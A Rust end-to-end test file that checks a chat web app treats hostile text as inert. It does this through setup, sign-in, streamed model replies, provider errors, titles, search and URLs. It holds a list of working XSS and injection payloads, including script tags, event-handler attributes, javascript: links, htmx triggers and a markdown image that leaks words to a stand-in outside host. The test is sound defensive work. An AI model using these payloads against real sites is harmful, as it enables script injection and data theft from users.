//! Text that wants to be more than text, through every door by which text comes in: nothing of it acts.

use super::world::{World, no_browser};
use anyhow::{Context, ensure};
use std::io::ErrorKind;
use std::net::{Ipv4Addr, SocketAddr, TcpListener};
use tests::browser::place::{button, field};
use tests::browser::window::Window;
use tests::house::PASSWORD;
use tests::model_server::script::Script;

/// A server of somebody else, which must never be asked. Nothing accepts: who connects waits in its queue.
struct Elsewhere(TcpListener);

impl Elsewhere {
    fn listen() -> anyhow::Result<Self> {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
        listener.set_nonblocking(true)?;
        Ok(Self(listener))
    }

    fn address(&self) -> anyhow::Result<SocketAddr> {
        Ok(self.0.local_addr()?)
    }

    fn was_never_asked(&self) -> anyhow::Result<()> {
        match self.0.accept() {
            Ok((_, who)) => anyhow::bail!("the page asked elsewhere, from {who}"),
            Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(()),
            Err(error) => Err(error.into()),
        }
    }
}

/// What has been done to chats and to pages with htmx: markup, addresses, attributes, mutations.
fn corpus(elsewhere: SocketAddr) -> Vec<String> {
    [
        "<script>ran=1</script>",
        "<script src=http://E/s.js></script>",
        "\"><script>ran=1</script>",
        "' autofocus onfocus=ran=1 x='",
        "</textarea><script>ran=1</script>",
        "</title></style><script>ran=1</script>",
        "<img src=x onerror=ran=1>",
        "<svg onload=ran=1><animate onbegin=ran=1 attributeName=x>",
        "<svg><a xlink:href='javascript:ran=1'><text y=9>a</text></a></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ran=1&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=ran=1>\">",
        "<details open ontoggle=ran=1>a</details>",
        "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
        "<iframe src=javascript:parent.ran=1></iframe>",
        "<object data=http://E/o><embed src=http://E/e>",
        "<link rel=stylesheet href=http://E/l.css><style>@import 'http://E/i.css';</style>",
        "<base href=http://E/>",
        "<meta http-equiv=refresh content='0;url=http://E/'>",
        "<form action=http://E/f><button autofocus>a</button></form>",
        "<body onpageshow=ran=1>",
        "<div hx-get=http://E/h hx-trigger=load>a</div>",
        "<div data-hx-get=/sign-out data-hx-trigger=load hx-on::load=ran=1>a</div>",
        "[a](javascript:ran=1)",
        "[a](JaVaScRiPt&colon;ran=1)",
        "[a](data:text/html,<script>ran=1</script>)",
        "![leak](http://E/leak?q=words)",
        "<http://E/auto> <javascript:ran=1>",
        "`</code><script>ran=1</script>`",
        "```html onload=ran=1\n</code></pre><script>ran=1</script>\n```",
        "| <img src=x onerror=ran=1> |\n|---|\n| <script>ran=1</script> |",
        "[x]: http://E/r 'onload=ran=1'\n![a][x]",
        "{{ 7 * 7 }} ${ran=1} <%= 1 %>",
        "\u{202E}txet sdrawkcab\u{202C} \u{0} \u{FFFE}",
    ]
    .map(|text| text.replace("//E/", &format!("//{elsewhere}/")))
    .to_vec()
}

/// Whatever in the page could act and is not ours.
const ALIVE: &str = r#"
const alive = [];
if (window.ran !== undefined) alive.push("a script ran");
for (const one of document.querySelectorAll("*")) {
  const names = one.getAttributeNames();
  if (names.some((name) => name.startsWith("on") || /^(data-)?hx-/.test(name))) alive.push(one.outerHTML);
  if (one.matches("script") && (one.textContent || !one.src.startsWith(location.origin + "/assets/"))) alive.push(one.outerHTML);
  if (one.matches("iframe, object, embed, base, svg a, math, main style, main link, main meta, main img")) alive.push(one.outerHTML);
  const leads = one.getAttribute("href") ?? one.getAttribute("action") ?? "";
  if (/^\s*(javascript|data|vbscript):/i.test(leads)) alive.push(one.outerHTML);
  if (one.matches("form") && one.action && !one.action.startsWith(location.origin + "/")) alive.push(one.outerHTML);
}
return alive;
"#;

async fn unharmed(window: &Window, by: &str) -> anyhow::Result<()> {
    let dialog = window.dialog().await?;
    ensure!(dialog.is_none(), "{by} opened a dialog: {dialog:?}");
    let alive = window.run(ALIVE, &[]).await?;
    ensure!(alive.as_array().is_some_and(Vec::is_empty), "{by} is alive: {alive}");
    let complaints = window.complaints().await?;
    // The browser says so of every form that was refused.
    let serious: Vec<_> =
        complaints.iter().filter(|one| !one.contains("the server responded with a status of 4")).collect();
    ensure!(serious.is_empty(), "{by} is complained of: {serious:?}");
    Ok(())
}

#[tokio::test]
async fn hostile_text_at_the_doors_stays_text() -> anyhow::Result<()> {
    if no_browser("hostile_text_at_the_doors")? {
        return Ok(());
    }
    let (world, elsewhere) = (World::empty().await?, Elsewhere::listen()?);
    let window = &world.window;
    let texts = corpus(elsewhere.address()?);
    let worst = texts[2].as_str();
    window.open("/setup").await?;
    window.fill(&field("Set-up token"), worst).await?;
    window.click(&button("Continue")).await?;
    window.until_it_says("not the token").await?;
    unharmed(window, "a token").await?;
    window.fill(&field("Set-up token"), &world.token()?).await?;
    window.click(&button("Continue")).await?;
    for (label, text) in [("Name", worst), ("Password", PASSWORD), ("Password, once more", "another one")] {
        window.fill(&field(label), text).await?;
    }
    window.click(&button("Make my account")).await?;
    window.until_it_says("differ").await?;
    unharmed(window, "a name").await?;
    window.fill(&field("Name"), "Ada").await?;
    for label in ["Password", "Password, once more"] {
        window.fill(&field(label), PASSWORD).await?;
    }
    window.click(&button("Make my account")).await?;
    window.click(&button("I have kept it")).await?;
    window.until_it_says("What was found").await?;
    window.click(&button("Continue")).await?;

    // A provider answers with it, too: in the list of its models and in its refusals.
    let names: Vec<&str> = texts.iter().map(String::as_str).filter(|text| !text.contains('\0')).collect();
    world.model.offer_models(&names);
    window.fill(&field("Address, as for any OpenAI-shaped client"), &world.model.base_url()).await?;
    window.fill(&field("Model"), worst).await?;
    window.fill(&field("Model"), "'\"><svg onload=ran=1>").await?;
    window.click(&button("Test and connect")).await?;
    window.until_it_says("does not know this model").await?;
    unharmed(window, "a model's name").await?;

    window.open("/chat").await?;
    window.click(&button("Sign out")).await?;
    window.open("/sign-in?next=javascript:ran=1").await?;
    window.fill(&field("Name"), worst).await?;
    window.fill(&field("Password"), worst).await?;
    window.click(&button("Sign in")).await?;
    window.until_shown(&field("Name")).await?;
    unharmed(window, "who signs in").await?;
    world.sign_in().await?;
    // Where they had left, and nowhere else.
    window.until_at("/setup/model").await?;
    elsewhere.was_never_asked()?;
    let asked = window.asked_elsewhere().await?;
    ensure!(asked.is_empty(), "the pages asked {asked:?}");
    Ok(())
}

#[tokio::test]
async fn hostile_text_in_a_conversation_stays_text() -> anyhow::Result<()> {
    if no_browser("hostile_text_in_a_conversation")? {
        return Ok(());
    }
    let (world, elsewhere) = (World::at_home().await?, Elsewhere::listen()?);
    let (window, model) = (&world.window, &world.model);
    let texts = corpus(elsewhere.address()?);
    let chat = window.path().await?;

    // The reply comes in small pieces over the stream, then with the page; both are looked at.
    let whole = format!("{}\n\nthe end of it", texts.join("\n\n"));
    let pieces: Vec<String> =
        whole.chars().collect::<Vec<_>>().chunks(7).map(|piece| piece.iter().collect()).collect();
    let count = pieces.len();
    model.next(Script::words(pieces).hold_after(count));
    world
        .say(&texts.iter().filter(|text| !text.contains('\0')).cloned().collect::<Vec<_>>().join(" "))
        .await?;
    window.until_it_says("the end of it").await?;
    unharmed(window, "a reply as it grows").await?;
    model.release();
    window.until_text("the reply to have ended", |text| !text.contains("is writing")).await?;
    unharmed(window, "a reply that has ended").await?;
    window.reload().await?;
    unharmed(window, "a conversation").await?;

    model.next(Script::refusal(400, &whole));
    world.say("And now?").await?;
    model.until_asked(2).await?;
    window.until_text("the failure to be told", |text| !text.contains("is writing")).await?;
    window.reload().await?;
    unharmed(window, "a provider's refusal").await?;

    for text in texts.iter().filter(|text| !text.contains(['\0', '\n'])) {
        let title = format!("{chat}/title");
        rename(window, &title, text).await?;
        unharmed(window, &format!("the title {text}")).await?;
    }
    window.open(&format!("{chat}/remove")).await?;
    unharmed(window, "a title about to be removed").await?;
    for text in &texts {
        let words: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
        window.open(&format!("/search?q={words}")).await?;
        unharmed(window, &format!("a search for {text}")).await?;
    }
    window.open("/chat/%3Cscript%3Eran=1%3C%2Fscript%3E").await?;
    unharmed(window, "an address").await?;
    elsewhere.was_never_asked()?;
    let asked = window.asked_elsewhere().await?;
    ensure!(asked.is_empty(), "the pages asked {asked:?}");
    Ok(())
}

/// Sends the form wherever the page keeps it.
async fn rename(window: &Window, action: &str, title: &str) -> anyhow::Result<()> {
    let script = "const [action, title] = arguments;
        const form = document.querySelector(`form[action=\"${action}\"]`);
        form.elements.title.value = title;
        form.submit();
        return true;";
    let sent = window.run(script, &[action.into(), title.into()]).await?;
    ensure!(sent == true, "the form was not sent");
    let title = title.split_whitespace().next().context("a title has words")?.to_owned();
    window.until_text("the new title", |text| text.contains(&title)).await
}
